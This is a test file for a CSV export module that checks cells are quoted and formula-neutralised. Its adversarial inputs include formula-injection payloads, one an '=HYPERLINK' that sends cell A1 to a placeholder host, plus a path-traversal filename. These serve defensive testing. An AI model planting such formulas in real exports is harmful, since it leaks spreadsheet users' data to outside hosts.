import { describe, expect, it } from "vitest";
import { SAMPLE_CSV_COLUMNS, csvCell, csvHeader, csvRow, exportFile, exportLines } from "./export.ts";

/**
 * How a spreadsheet reads a CSV line with a given list separator: quoted fields (RFC 4180,
 * `""` for a quote) and bare fields split at the separator. Excel takes the separator from the
 * locale: `,` in English, `;` in Polish; a tab when text is pasted.
 */
function splitLine(line: string, separator: string): string[] {
  const fields: string[] = [];
  let field = "";
  let quoted = false;
  for (let index = 0; index < line.length; index++) {
    const char = line[index]!;
    if (quoted) {
      if (char === '"' && line[index + 1] === '"') {
        field += '"';
        index++;
      } else if (char === '"') quoted = false;
      else field += char;
    } else if (char === '"' && field === "") quoted = true;
    else if (char === separator) {
      fields.push(field);
      field = "";
    } else field += char;
  }
  fields.push(field);
  return fields;
}

/** Review texts written to become formulas or to break a row apart. */
const ADVERSARIAL = [
  "x;=HYPERLINK(\"http://zly.example\";\"Kliknij\")",
  "dobra cena;-2+3",
  "a;@SUM(A1:A9)",
  "tab\t=1+1",
  "przecinek,=1+1",
  '=HYPERLINK("http://zly.example/?x="&A1,"Kliknij")',
  "+48 601 000 000",
  "-2+3",
  "@SUM(A1:A9)",
  "\t=1+1",
  "\r=1+1",
  'cytat "w środku"; =1',
  "linia\n=1+1",
  " =1+1",
  "zwykły tekst",
];

describe("CSV cells", () => {
  it.each([",", ";", "\t"])("stay one cell each and never start a formula with the list separator %j", (separator) => {
    const row = ADVERSARIAL.map(csvCell).join(",");
    // The export's own separator is the comma; a Polish Excel splits the same line at `;`, and
    // what it shows must still be whole cells: quoted ones are never split.
    for (const cell of ADVERSARIAL) {
      const written = csvCell(cell);
      const fields = splitLine(written, separator);
      expect(fields, `${JSON.stringify(cell)} split at ${JSON.stringify(separator)}`).toHaveLength(1);
      expect(fields[0]!, JSON.stringify(cell)).not.toMatch(/^[=+\-@\t\r]/);
    }
    if (separator === ",") {
      const fields = splitLine(row, ",");
      expect(fields).toHaveLength(ADVERSARIAL.length);
      fields.forEach((field, index) => expect(field.replace(/^'/, "")).toBe(ADVERSARIAL[index]));
    }
  });

  it("quotes a cell with a semicolon, as a Polish Excel needs", () => {
    expect(csvCell("a;=1+1")).toBe('"a;=1+1"');
    expect(csvCell("a\tb")).toBe('"a\tb"');
  });

  it("keeps plain text and numbers bare and neutralises formulas", () => {
    expect(csvCell("zwykły tekst")).toBe("zwykły tekst");
    expect(csvCell(-0.5)).toBe("-0.5");
    expect(csvCell("=1+1")).toBe("'=1+1");
    expect(csvCell(undefined)).toBe("");
  });

  it("writes a mention's row with as many cells as the header", () => {
    const row = csvRow({ id: "x", title: "Tytuł; =1+1", text: "tekst\tz tabem, przecinkiem; średnikiem", topics: ["a", "b"] });
    expect(splitLine(row.trimEnd(), ",")).toHaveLength(splitLine(csvHeader().trimEnd(), ",").length);
    expect(row).toContain('"Tytuł; =1+1"');
  });

  it("writes a sample's rows with the stratum each was drawn for, in the order given, formulas neutralised", async () => {
    const rows = [
      { id: "b", text: "=HYPERLINK(\"http://zly.example\")", stratum: { topic: "delivery", sentiment: "negative" } },
      { id: "a", text: "dobra cena", stratum: { topic: "price", sentiment: "positive" } },
    ];
    let file = "";
    for await (const line of exportLines(rows, "csv", SAMPLE_CSV_COLUMNS)) file += line;
    const lines = file.replace(/^\uFEFF/, "").trimEnd().split("\r\n");
    expect(splitLine(lines[0]!, ",").at(-1)).toBe("stratum");
    expect(lines.slice(1).map((line) => splitLine(line, ",")[0])).toEqual(["b", "a"]);
    expect(splitLine(lines[1]!, ",").at(-1)).toBe("topic=delivery sentiment=negative");
    expect(lines[1]).toContain("'=HYPERLINK");
    let ndjson = "";
    for await (const line of exportLines(rows, "ndjson", SAMPLE_CSV_COLUMNS)) ndjson += line;
    expect(ndjson.trimEnd().split("\n").map((line) => JSON.parse(line) as unknown)).toEqual(rows);
  });
});

describe("export files", () => {
  it("names the file after the team and the day, with the format's content type", () => {
    const day = new Date("2026-11-29T23:30:00.000Z");
    expect(exportFile("cx", "csv", day)).toEqual({ name: "odzew-cx-2026-11-29.csv", contentType: "text/csv; charset=utf-8" });
    expect(exportFile("pr", "ndjson", day)).toEqual({ name: "odzew-pr-2026-11-29.ndjson", contentType: "application/x-ndjson; charset=utf-8" });
    // What it is, for a sample: its seed, reduced to what any file system takes.
    expect(exportFile("cx", "csv", day, "sample-raport grudzień/../x").name).toBe("odzew-cx-sample-raport-grudzie-x-2026-11-29.csv");
  });
});
